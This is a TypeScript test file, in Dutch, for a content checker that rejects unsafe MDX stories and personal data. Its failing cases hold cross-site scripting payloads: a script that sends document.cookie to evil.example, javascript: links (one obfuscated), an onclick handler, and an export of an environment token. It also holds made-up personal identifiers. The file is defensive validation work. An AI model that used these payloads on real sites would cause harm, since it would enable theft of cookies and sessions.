// Issue 6, item 5: a table of bad contributions, each with the exact finding (file, line, message),
// and look-alikes that must pass. Runs the real content check (`npm run check`) on a temporary
// copy of the fixture content (tests/e2e/fixtures) that holds one file per case.
import { afterAll, describe, expect, it } from 'vitest';
import { controleerInhoud } from '../inhoud/controle.ts';
import type { Probleem } from '../inhoud/problemen.ts';
import { tijdelijkProject } from '../../../tests/helpers/project.ts';
import { verhaal } from '../../../tests/helpers/verhaal.ts';

const VRIJ = (veld: string) =>
  `Weet je zeker dat het geen persoonsgegeven is (bijvoorbeeld het algemene nummer van een organisatie)? Vraag dan een vrijstelling aan: zet onder privacy.vrijstellingen een item met waarde (precies de tekst zoals hij hier staat), veld: "${veld}" en een reden. Een redacteur moet de vrijstelling goedkeuren.`;
const TELEFOON = (m: string, veld = 'tekst') => `telefoonnummer gevonden (${m}). Verwijder het; noem hooguit het algemene nummer van een organisatie, zoals 14 020 of 0800-… ${VRIJ(veld)}`;
const BSN = (m: string, veld = 'tekst') => `burgerservicenummer gevonden (BSN ${m}). Een BSN hoort nooit in een verhaal: verwijder het. ${VRIJ(veld)}`;
const EMAIL = (m: string, veld = 'tekst') => `e-mailadres gevonden (${m}). Verwijder het; verwijs hooguit naar de website van de organisatie. ${VRIJ(veld)}`;
const IBAN = (m: string, veld = 'tekst') => `IBAN-rekeningnummer gevonden (${m}). Verwijder het. ${VRIJ(veld)}`;
const ADRES = (m: string, veld = 'tekst') => `adres gevonden (${m}): dat wijst één huishouden aan. Noem hooguit de wijk of de gemeente. ${VRIJ(veld)}`;
const GEBOREN = (m: string, veld = 'tekst') => `geboortedatum gevonden (${m}). Verwijder haar; noem hooguit een leeftijd of een leeftijdsgroep. ${VRIJ(veld)}`;
const KENTEKEN = (m: string, veld = 'tekst') => `kenteken gevonden (${m}). Verwijder het; een kenteken wijst de eigenaar aan. ${VRIJ(veld)}`;
const REDEN = 'Dit is het verzonnen voorbeeldnummer uit de openbare folder van het wijkteam.';
const COMPONENTEN = '<Citaat>, <Kerngetal>, <Tijdlijn>, <Moment>, <Kader>';
const HTML = (naam: string) =>
  `HTML of component <${naam}> is niet toegestaan in een verhaal. Gebruik Markdown: **vet**, *schuin*, [tekst](https://…), ## kopjes, lijsten en tabellen. Toegestane componenten: ${COMPONENTEN}.`;
const EXPRESSIE = 'een expressie tussen { } is niet toegestaan: die voert code uit bij het bouwen. Verwijder de accolades, of schrijf ze als \\{ en \\} als je ze letterlijk bedoelt.';
const ESM = 'import en export zijn niet toegestaan in een verhaal: ze voeren code uit bij het bouwen. Verwijder de regel; schrijf gewone tekst en Markdown.';
const SYNTAX = (reden: string) =>
  `MDX-syntaxfout: ${reden}. Gebruik gewone Markdown; schrijf een letterlijke < of { als \\< of \\{, en geen HTML-commentaar <!-- -->.`;

type Verwacht = Omit<Probleem, 'bestand'>;

const FOUT: Record<string, { bron: string; verwacht: Verwacht[] }> = {
  // --- 1. No code in contributed content -------------------------------------------------------
  'esm-import': { bron: verhaal("import Kaart from '../../src/components/Kaart.astro';"), verwacht: [{ regel: 25, bericht: ESM }] },
  'esm-export': { bron: verhaal('Tekst.\n\nexport const geheim = process.env.TOKEN;'), verwacht: [{ regel: 27, bericht: ESM }] },
  'expressie-in-tekst': { bron: verhaal('Het kost {1000 * 12} euro.'), verwacht: [{ regel: 25, bericht: EXPRESSIE }] },
  'expressie-als-blok': { bron: verhaal('{/* een MDX-commentaar is ook een expressie */}'), verwacht: [{ regel: 25, bericht: EXPRESSIE }] },
  'script': {
    bron: verhaal('<script>fetch("https://evil.example/?" + document.cookie)</script>'),
    verwacht: [{ regel: 25, bericht: '<script> is niet toegestaan: een <script> voert code uit in de browser van de lezer. Verwijder het element.' }],
  },
  'iframe': {
    bron: verhaal('Kijk:\n\n<iframe src="https://video.example/x"></iframe>'),
    verwacht: [{ regel: 27, bericht: '<iframe> is niet toegestaan: een <iframe> laadt een andere website in de pagina. Verwijder het element.' }],
  },
  'style': {
    bron: verhaal('<style>body \\{ display: none \\}</style>'),
    verwacht: [{ regel: 25, bericht: '<style> is niet toegestaan: een <style> kan de opmaak van de hele site veranderen. Verwijder het element.' }],
  },
  'onclick': {
    bron: verhaal('Tekst met <span\n  onclick="alert(1)">een knop</span>.'),
    verwacht: [
      { regel: 25, bericht: HTML('span') },
      { regel: 26, bericht: 'attribuut onclick= op <span> is niet toegestaan: het voert code uit in de browser. Verwijder het.' },
    ],
  },
  'javascript-link-markdown': {
    bron: verhaal('Lees [de regeling](javascript:alert(document.domain)).'),
    verwacht: [{ regel: 25, bericht: 'een link met "javascript:" is niet toegestaan: zo\'n adres voert code uit of verbergt een document. Gebruik een gewoon https://-adres.' }],
  },
  'javascript-link-verstopt': {
    // The Markdown parser decodes the entity; the browser ignores the tab: it is still javascript:.
    bron: verhaal('[de regeling][r]\n\n[r]: JaVa&#x09;Script:alert(1)'),
    verwacht: [{ regel: 27, bericht: 'een link met "javascript:" is niet toegestaan: zo\'n adres voert code uit of verbergt een document. Gebruik een gewoon https://-adres.' }],
  },
  'javascript-afbeelding': {
    bron: verhaal('![grafiek](javascript:alert(1))'),
    verwacht: [{ regel: 25, bericht: 'een afbeelding met "javascript:" is niet toegestaan: zo\'n adres voert code uit of verbergt een document. Gebruik een gewoon https://-adres.' }],
  },
  'javascript-in-html-link': {
    bron: verhaal('<a href="javascript:alert(1)">klik</a>'),
    verwacht: [
      { regel: 25, bericht: HTML('a') },
      { regel: 25, bericht: 'attribuut href= op <a> bevat "javascript:": zo\'n adres voert code uit. Gebruik een gewoon https://-adres.' },
    ],
  },
  'javascript-in-bron-url': {
    bron: verhaal('Tekst.', { bronnen: '\n  - { id: verslag, titel: Rapport,\n      url: "javascript:alert(1)" }' }),
    // The schema only allows http(s); the safety gate explains why javascript: is dangerous.
    verwacht: [
      { regel: 15, veld: 'bronnen[0].url', bericht: 'geef een volledig webadres dat begint met https:// (of http://)' },
      { regel: 15, veld: 'bronnen[0].url', bericht: '"javascript:" is niet toegestaan: zo\'n adres voert code uit als iemand erop klikt. Gebruik een gewoon https://-adres.' },
    ],
  },
  'onbekende-component': {
    bron: verhaal('<Kaart gemeente="leeuwarden" />'),
    verwacht: [{ regel: 25, bericht: `onbekend component <Kaart>. Toegestaan: ${COMPONENTEN}.` }],
  },
  'mdx-syntaxfout-commentaar': {
    bron: verhaal('Regel een.\n\n<!-- opmerking voor de redactie -->'),
    verwacht: [{ regel: 27, bericht: SYNTAX('na een < staat een !: een HTML-commentaar <!-- --> kan niet in een verhaal') }],
  },
  'mdx-syntaxfout-open-tag': {
    bron: verhaal('Regel een.\n\n<div>\n\nNooit gesloten.'),
    verwacht: [{ regel: 27, bericht: SYNTAX('de tag <div> wordt niet gesloten') }],
  },
  // --- 2. Personal data --------------------------------------------------------------------------
  'bsn-bij-woord': { bron: verhaal('Haar BSN is 123456782, zei ze.'), verwacht: [{ regel: 25, bericht: BSN('1234***82') }] },
  'bsn-als-getal': { bron: verhaal('In het dossier stond 123456782.'), verwacht: [{ regel: 25, bericht: BSN('1234***82') }] },
  'bsn-met-punten': { bron: verhaal('Nummer 1234.56.782 in de brief.'), verwacht: [{ regel: 25, bericht: BSN('1234***82') }] },
  'bsn-met-spaties': { bron: verhaal('Op het formulier: 123 456 782.'), verwacht: [{ regel: 25, bericht: BSN('1234***82') }] },
  'bsn-acht-cijfers': {
    // 12345672 padded to 012345672 passes the elfproef; eight digits count only next to the word.
    bron: verhaal('Haar burgerservicenummer, te weten\n12345672, stond erop.'),
    verwacht: [{ regel: 26, bericht: BSN('1234***72') }],
  },
  'bsn-in-frontmatter': {
    bron: verhaal('Tekst.').replace('samenvatting: Een kort verhaal om de controles te testen.', 'samenvatting: Sofinummer 123456782 stond op de brief.'),
    verwacht: [{ regel: 3, veld: 'samenvatting', bericht: BSN('1234***82', 'samenvatting') }],
  },
  'telefoon-mobiel': { bron: verhaal('Bel haar op 06-12345678.'), verwacht: [{ regel: 25, bericht: TELEFOON('0612***78') }] },
  'telefoon-internationaal': { bron: verhaal('Of op +31 6 12345678 of 0031 20 1234567.'), verwacht: [{ regel: 25, bericht: TELEFOON('+316***78') }, { regel: 25, bericht: TELEFOON('0031***67') }] },
  'telefoon-vast': { bron: verhaal('Het buurtteam belde (020) 123 4567.'), verwacht: [{ regel: 25, bericht: TELEFOON('0201***67') }] },
  'telefoon-in-omschrijving': {
    bron: verhaal('Tekst.').replace(
      'omschrijving: Bewoners moesten langs veel loketten. }',
      'omschrijving: "Bewoners moesten langs veel loketten,\n      en mevrouw gaf 0612345678 als nummer." }',
    ),
    verwacht: [{ regel: 12, veld: 'belemmeringen[0].omschrijving', bericht: TELEFOON('0612***78', 'belemmeringen[0].omschrijving') }],
  },
  'telefoon-naast-euro': {
    // Judgement: amounts never start with a zero, so this is a phone number next to a word.
    bron: verhaal('Hij noemde 0612345678 euro als bedrag.'),
    verwacht: [{ regel: 25, bericht: TELEFOON('0612***78') }],
  },
  'email': { bron: verhaal('Mail naar [Jan](mailto:jan.de.vries@gmail.com) of jan.de.vries@gmail.com.'), verwacht: [{ regel: 25, bericht: EMAIL('j***@***.com') }] },
  'iban': { bron: verhaal('Rekening NL91ABNA0417164300 en\nNL91 ABNA 0417 1643 00 staan erin.'), verwacht: [{ regel: 25, bericht: IBAN('NL91***00') }, { regel: 26, bericht: IBAN('NL91***00') }] },
  'postcode-huisnummer': { bron: verhaal('Zij woont op 8921 AB 12.'), verwacht: [{ regel: 25, bericht: ADRES('8921***12') }] },
  'straat-huisnummer-postcode': { bron: verhaal('Adres: Kerkstraat 12, 8921AB Leeuwarden.'), verwacht: [{ regel: 25, bericht: ADRES('Kerk***AB') }] },
  // --- Silencing reviewed false positives --------------------------------------------------------
  'vrijstelling-niet-exact': {
    bron: verhaal('Bel 0612345678.', { privacy: `\n  vrijstellingen:\n    - waarde: "06-12345678"\n      veld: tekst\n      reden: ${REDEN}` }),
    verwacht: [
      { regel: 21, veld: 'privacy.vrijstellingen[0].waarde', bericht: 'deze vrijstelling wordt niet (meer) gebruikt: de privacycontrole vindt deze waarde niet in veld "tekst". Verwijder het item, of schrijf waarde en veld precies zoals de controle ze noemde.' },
      { regel: 29, bericht: TELEFOON('0612***78') },
    ],
  },
  // --- 3. Privacy fields -------------------------------------------------------------------------
  'niet-gepseudonimiseerd': {
    bron: verhaal('Tekst.').replace('gepseudonimiseerd: true', 'gepseudonimiseerd: false'),
    verwacht: [{ regel: 18, veld: 'privacy.gepseudonimiseerd', bericht: 'zet gepseudonimiseerd op true, nadat je namen en herkenbare details van burgers hebt vervangen' }],
  },
  'toestemming-open': {
    bron: verhaal('Tekst.').replace('toestemming: "n.v.t."', 'toestemming: misschien'),
    verwacht: [{ regel: 19, veld: 'privacy.toestemming', bericht: 'vul toestemming in: true (de betrokkenen gaven toestemming) of "n.v.t." (niemand is herkenbaar)' }],
  },
};

/** Look-alikes: each must pass without any finding. */
const GOED: Record<string, string> = {
  'elfproef-faalt': verhaal('Haar BSN zou 123456789 zijn, maar dat nummer bestaat niet; dossier 987654321 ook niet.'),
  'acht-cijfers-zonder-woord': verhaal('Zaaknummer 12345672 bij de gemeente.'),
  'jaartallen': verhaal('Van 2014-2016 liep de pilot, daarna 2017–2019. Op 01-10-2014 en 2014-10-01 en 1 oktober 2014.'),
  'bedragen': verhaal('Een schuld van € 12.000 tegen 60.000 euro per jaar; het fonds had EUR 1.200.000 en € 123.456.782 aan reserves.'),
  'cbs-code': verhaal('Leeuwarden heeft CBS-code GM0080, Amsterdam GM0363.'),
  'publieke-nummers': verhaal('Bel de gemeente op 14 020 of 14 058, gratis via 0800-8051, of betaald via 0900-1234567.'),
  'eigen-en-voorbeelddomein': verhaal('Schrijf naar redactie@example.org of via 3d-lab-kennisbank.github.io.'),
  'iban-checksum-fout': verhaal('Niet geldig: NL12ABNA0417164300.'),
  'postcode-zonder-huisnummer': verhaal('De wijk Heechterp ligt rond 8925 en 8921 AB in Leeuwarden; in 2016 woonden er 12 gezinnen.'),
  'vrijstelling-exact': verhaal('Bel 06-12345678 voor de folder.', {
    privacy: `\n  vrijstellingen:\n    - waarde: "06-12345678"\n      veld: tekst\n      reden: ${REDEN}`,
  }),
  'veilige-markdown': verhaal('Lees [het rapport](https://www.vng.nl/rapport) en **vet**, *schuin*, `code`.\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n\\{ letterlijke accolades \\} en 3 \\< 4.'),
};

describe('veiligheidscontroles (tabel met slechte invoer)', () => {
  const project = tijdelijkProject(false, 'fixture');
  afterAll(() => project.opruimen());
  const gevallen = { ...FOUT, ...Object.fromEntries(Object.entries(GOED).map(([n, bron]) => [n, { bron, verwacht: [] as Verwacht[] }])) };
  for (const [naam, { bron }] of Object.entries(gevallen)) project.schrijf(`content/verhalen/${naam}.mdx`, bron);
  const { problemen } = controleerInhoud(project.dir);
  const per = (naam: string) =>
    problemen.filter((p) => p.bestand === `content/verhalen/${naam}.mdx`).map(({ bestand: _, ...rest }) => rest);

  for (const [naam, { verwacht }] of Object.entries(FOUT)) {
    it(`weigert ${naam}`, () => expect(per(naam)).toEqual(verwacht));
  }
  for (const naam of Object.keys(GOED)) {
    it(`laat look-alike ${naam} door`, () => expect(per(naam)).toEqual([]));
  }
  it('reports nothing else: the findings belong to the bad files, the fixture stories beside them pass', () => {
    const namen = new Set(Object.keys(gevallen).map((n) => `content/verhalen/${n}.mdx`));
    expect(problemen.filter((p) => !namen.has(p.bestand))).toEqual([]);
  });
});
